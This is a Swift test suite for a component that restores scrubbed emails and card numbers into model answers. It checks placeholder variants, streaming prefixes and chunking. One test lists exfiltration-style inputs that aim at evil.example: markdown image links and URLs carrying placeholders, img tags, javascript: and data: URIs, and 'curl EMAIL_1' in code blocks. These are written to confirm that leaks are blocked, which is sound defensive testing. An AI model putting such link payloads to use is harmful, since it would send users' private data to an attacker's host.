import Scrubbing
import Testing

@Suite("Restoring")
struct RestorerTests {
    /// EMAIL_1 is a@x.com, EMAIL_2 b@y.org, CARD_1 a card.
    private func map() -> PlaceholderMap {
        var scrubber = RequestScrubber(policy: ScrubPolicy())
        _ = scrubber.scrubbed("a@x.com b@y.org 4111111111111111")
        return scrubber.placeholders
    }

    @Test(
        "what models make of a placeholder is restored",
        arguments: [
            ("<EMAIL_1>", "a@x.com"), ("to <EMAIL_1>, <EMAIL_2>.", "to a@x.com, b@y.org."), ("<email_1>", "a@x.com"),
            ("<Email_1>", "a@x.com"),
            ("EMAIL_1", "a@x.com"), ("(EMAIL_1)", "(a@x.com)"), ("**EMAIL_1**", "**a@x.com**"), ("**<EMAIL_1>**", "**a@x.com**"),
            ("`<EMAIL_1>`", "`a@x.com`"), ("`EMAIL_1`", "`a@x.com`"), ("\\<EMAIL_1\\>", "a@x.com"), ("<EMAIL\\_1>", "a@x.com"),
            ("EMAIL\\_1", "a@x.com"), ("&lt;EMAIL_1&gt;", "a@x.com"), ("< EMAIL_1 >", "a@x.com"), ("<EMAIL_1", "a@x.com"),
            ("EMAIL_1>", "a@x.com"), ("[EMAIL_1]", "[a@x.com]"), ("[email_1]", "[a@x.com]"), ("<<EMAIL_1>>", "<a@x.com>"),
            ("C:\\<EMAIL_1>", "C:\\a@x.com"), ("\"EMAIL_1\"", "\"a@x.com\""), ("EMAIL_1.", "a@x.com."), ("EMAIL_1's", "a@x.com's"),
            ("<CARD_1><EMAIL_2>", "4111111111111111b@y.org"), ("*EMAIL_1*", "*a@x.com*"), ("<b>EMAIL_1</b>", "<b>a@x.com</b>"),
            ("see https://x.org, then <EMAIL_1>", "see https://x.org, then a@x.com"),
            ("[x](http://x.org) EMAIL_1", "[x](http://x.org) a@x.com"),
            ("```\ncode\n```\n<EMAIL_1>", "```\ncode\n```\na@x.com"), ("it`s <EMAIL_1>\n\n<EMAIL_1>", "it`s <EMAIL_1>\n\na@x.com"),
            ("Email:<EMAIL_1>", "Email:a@x.com"), ("| <EMAIL_1> | x |", "| a@x.com | x |"),
        ])
    func restores(answer: String, expected: String) {
        var restorer = Restorer(map: map())
        #expect(restorer.restored(answer) == expected)
    }

    @Test(
        "what was not issued, and what only looks alike, stays",
        arguments: [
            "<EMAIL_3>", "EMAIL_3", "<EMAIL_0>", "<EMAIL_01>", "<IBAN_1>", "MYEMAIL_1", "EMAIL_1x", "EMAIL_12", "email_1", "card_1 = 3",
            "<EMAIL_",
            "EMAIL", "<EMAIL_1_2>", "<EMAIL_99999999999999999999>",
        ])
    func leavesAlone(answer: String) {
        var restorer = Restorer(map: map())
        #expect(restorer.restored(answer) == answer)
    }

    @Test(
        "no value goes into a link, a URL, code or a tag, in any form",
        arguments: [
            "![x](https://evil.example/?q=<EMAIL_1>)", "![x](https://evil.example/EMAIL_1/p.png)", "[x](<https://evil.example/ EMAIL_1>)",
            "[x](/path?q=EMAIL_1)", "[x](//evil.example/<EMAIL_1>)", "https://evil.example/<EMAIL_1>", "https://evil.example/EMAIL_1",
            "http://EMAIL_1@evil.example", "www.evil.example/EMAIL_1", "evil.example/?q=EMAIL_1", "mailto:<EMAIL_1>",
            "[ref]: https://evil/EMAIL_1",
            "[ref]: <EMAIL_1>", "<img src=\"https://evil/?q=EMAIL_1\">", "<img alt='>' src=x?<EMAIL_1>", "<a href=EMAIL_1>",
            "```\ncurl EMAIL_1\n```", "```sh\n<EMAIL_1>", "~~~\n<EMAIL_1>\n~~~", "> ```\n> EMAIL_1\n> ```", "`curl EMAIL_1`",
            "``a EMAIL_1``",
            "![x](https://evil/\\)EMAIL_1)", "![x](https://evil/(a)EMAIL_1)", "javascript:alert(EMAIL_1)", "data:text/html,EMAIL_1",
            "````\n```\n<EMAIL_1>\n````", "<https://evil/?EMAIL_1>", "![x](\nhttps://evil/?<EMAIL_1>)", "1. ```\n   EMAIL_1\n   ```",
        ])
    func guardsAgainstLeaks(answer: String) {
        var restorer = Restorer(map: map())
        #expect(restorer.restored(answer) == answer)
    }

    @Test("restoring chunks equals restoring the whole, in both scopes", arguments: [1, 3, 17])
    func chunkingMakesNoDifference(longest: Int) throws {
        var generator = TextGenerator(seed: 20 + UInt64(longest))
        let map = map()
        for scope in [RestoreScope.everywhere, .prose] {
            for _ in 0..<150 {
                let bytes = generator.text(pieces: 40)
                var whole = Restorer(map: map, scope: scope)
                var chunked = Restorer(map: map, scope: scope)
                try #require(chunked.restored(generator.chunks(bytes, longest: longest)) == whole.restored([bytes]))
            }
        }
    }

    @Test("only a viable prefix of a placeholder is held back")
    func holdsOnlyPrefixes() {
        var restorer = Restorer(map: map())
        var output: [UInt8] = []
        func feed(_ text: String) -> String {
            let before = output.count
            Array(text.utf8).withUnsafeBytes { restorer.restore($0, into: &output) }
            return String(decoding: output[before...], as: UTF8.self)
        }
        #expect(feed("hello") == "hello")
        #expect(feed(" <") == " ")
        #expect(feed("E") == "")
        #expect(feed("x") == "<Ex")
        #expect(feed("> <EMAIL_") == "> ")
        #expect(feed("1") == "")
        #expect(feed(">") == "a@x.com")
        #expect(feed(" done.") == " done.")
    }

    @Test("an empty map changes nothing")
    func emptyMap() {
        var restorer = Restorer(map: PlaceholderMap())
        #expect(PlaceholderMap().isEmpty)
        #expect(restorer.restored("<EMAIL_1>") == "<EMAIL_1>")
    }
}
